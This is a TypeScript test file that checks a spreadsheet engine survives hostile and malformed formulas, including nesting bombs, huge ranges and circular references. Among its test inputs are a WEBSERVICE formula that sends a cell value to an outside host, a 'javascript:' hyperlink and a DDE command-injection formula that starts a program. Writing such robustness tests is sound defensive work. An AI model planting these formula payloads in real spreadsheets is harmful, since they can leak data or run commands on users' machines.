import { type CellValue, Workbook } from '@kerfbook/workbook';
import { beforeEach, describe, expect, it } from 'vitest';
import { plainSentence, specimen } from './specimen.ts';

const nested = (open: string, inside: string, close: string, times: number) =>
  `=${open.repeat(times)}${inside}${close.repeat(times)}`;

/** Formulas as a stranger's file, a paste or a joke might bring them. */
const strange: Record<string, string> = {
  'brackets in brackets': nested('(', '1', ')', 4000),
  'functions in functions': nested('ABS(', '1', ')', 900),
  'choices in choices': nested('IF(1,', '1', ',0)', 400),
  'signs in a row': `=${'-'.repeat(1900)}1`,
  'a long sum': `=1${'+1'.repeat(950)}`,
  'a longer sum than a cell holds': `=1${'+1'.repeat(60_000)}`,
  'the whole sheet': '=SUM(A1:ZZ10000)',
  'more than the whole sheet': '=SUM(B1:ZZZ40000)',
  'whole columns': '=SUM(A:ZZ)',
  'ranges of ranges': '=SUMPRODUCT(A1:ZZ9000*A1:ZZ9000)',
  'a text of millions': '=REPT("ab", 100000000)',
  'a text of texts': '=REPT(REPT("abcdefgh", 4000), 4000)',
  'a table of millions': '=SUM(SEQUENCE(10000, 10000))',
  'a tower of powers': '=9^9^9^9^9',
  'a number beyond numbers': `=${'9'.repeat(400)}`,
  'a small number below numbers': '=1e-400',
  'a factorial of millions': '=FACT(170000000)',
  'choices of millions': '=COMBIN(1000000000, 500000000)',
  'a date of no calendar': '=DATE(999999999, 99999, 99999)',
  'a picture of a number': '=TEXT(1, REPT("#", 30000))',
  'a call home': '=WEBSERVICE("https://example.org/?"&seat_width)',
  'a link that runs': '=HYPERLINK("javascript:alert(1)", "press")',
  'a program to start': "=cmd|' /C calc'!A0",
  'a cell by its text': '=INDIRECT("seat_width")',
  'its own address': '=C3+1',
  'words without an end': '="oak',
  'an end without words': '=oak"',
  'half a letter': '=LEN("\ud800")',
  'letters that turn the line': '="\u202e"&"oak"',
  'a NUL': '="\0"',
  'nothing after the sign': '=',
  'only commas': '=,,,,',
  'a kept reference that is typed': '=[c1.r1]+[s9!c1.r1]',
  'a name of the machine': '=constructor+__proto__+toString()',
  'errors by hand': '=#REF!+#N/A',
  'braces without end': `=${'{'.repeat(900)}`,
  'a sheet of another book': "='[other.book]Sheet'!A1",
};

function expectSound(value: CellValue): void {
  if (value.kind === 'number') expect(Number.isFinite(value.number)).toBe(true);
  if (value.kind === 'text') expect(value.text.length).toBeLessThanOrEqual(100_000);
  if (value.kind === 'error') expect(value.error.says).toMatch(plainSentence);
}

describe('a stranger’s formula', () => {
  let book: Workbook;
  beforeEach(() => {
    book = Workbook.open(specimen());
  });

  it.each(Object.entries(strange))('typed: %s', (_, text) => {
    const result = book.apply({ do: 'enter', sheet: 's1', cells: [{ row: 2, column: 2, text }] });
    if (!result.ok) expect(result.says).toMatch(plainSentence);
    expectSound(book.value({ sheet: 's1', row: 2, column: 2 }));
    // Nothing that was there is lost, and the workbook still answers.
    expect(book.named('total')?.value).toEqual({ kind: 'number', number: 44 });
    book.apply({ do: 'enter', sheet: 's1', cells: [{ row: 0, column: 1, text: '20' }] });
    expect(book.named('total')?.value).toEqual({ kind: 'number', number: 50 });
  });

  it.each(Object.entries(strange))('in a file: %s', (_, formula) => {
    const document = specimen();
    const cells = document.sheets[0]?.rows[0]?.cells;
    if (cells === undefined || formula.length > 8192) return expectTooLong(formula);
    cells.c1 = { formula };
    const opened = Workbook.open(document);
    expectSound(opened.value({ sheet: 's1', row: 0, column: 0 }));
    expect(opened.named('seat_width')?.value).toEqual({ kind: 'number', number: 14 });
    // References by address are kept as ids from here on; everything else is as it was.
    if (!formula.includes('[')) {
      expect(opened.cell({ sheet: 's1', row: 0, column: 0 }).formula).toBe(formula);
    }
    expect(Workbook.open(opened.document()).document()).toEqual(opened.document());
    return undefined;
  });

  it.each(Object.entries(strange))('asked for: %s', (_, formula) => {
    expectSound(book.evaluate(formula));
  });

  it.each(Object.entries(strange))('in a check: %s', (_, formula) => {
    const document = specimen();
    const check = document.checks[0];
    if (check === undefined || formula.length > 8192) return expectTooLong(formula);
    const opened = Workbook.open({ ...document, checks: [{ ...check, formula }] });
    const state = opened.checks()[0];
    expect(state?.says).toMatch(/\S/);
    expect(['pass', 'care', 'unknown']).toContain(state?.state);
    return undefined;
  });
});

/** The schema keeps such a formula out of every file; see the damaged files. */
function expectTooLong(formula: string): void {
  expect(formula.length).toBeGreaterThan(8192);
}

describe('formulas that go around in circles', () => {
  it('are each named, and the rest of the workbook still works', () => {
    const book = Workbook.open(specimen());
    const typed = ['=B2', '=C2+A1', '=D1', '=C1*2'];
    for (const [column, text] of typed.entries()) {
      book.apply({
        do: 'enter',
        sheet: 's1',
        cells: [{ row: column % 2, column: 2 + (column >> 1), text }],
      });
    }
    book.apply({ do: 'enter', sheet: 's1', cells: [{ row: 0, column: 2, text: '=D2' }] });
    book.apply({ do: 'enter', sheet: 's1', cells: [{ row: 1, column: 3, text: '=C1' }] });
    expect(book.value({ sheet: 's1', row: 0, column: 2 })).toMatchObject({
      error: { word: '#CYCLE!', says: expect.stringMatching(/C1.*D2|D2.*C1/) },
    });
    expect(book.named('total')?.value).toEqual({ kind: 'number', number: 44 });
  });

  it('heal when the circle is opened, also one of two thousand cells', () => {
    const rows = Array.from({ length: 2000 }, (_, i) => ({
      id: `r${i + 1}`,
      cells: { c1: { formula: `=[c1.r${i === 0 ? 2000 : i}]+1` } },
    }));
    const document = specimen();
    document.sheets[1] = { id: 's2', name: 'Legs', columns: [{ id: 'c1' }], rows };
    const book = Workbook.open(document);
    const last = { sheet: 's2', row: 1999, column: 0 };
    const value = book.value(last);
    expect(value).toMatchObject({ kind: 'error', error: { word: '#CYCLE!' } });
    expectSound(value);
    book.apply({ do: 'enter', sheet: 's2', cells: [{ row: 0, column: 0, text: '1' }] });
    expect(book.value(last)).toEqual({ kind: 'number', number: 2000 });
  });
});
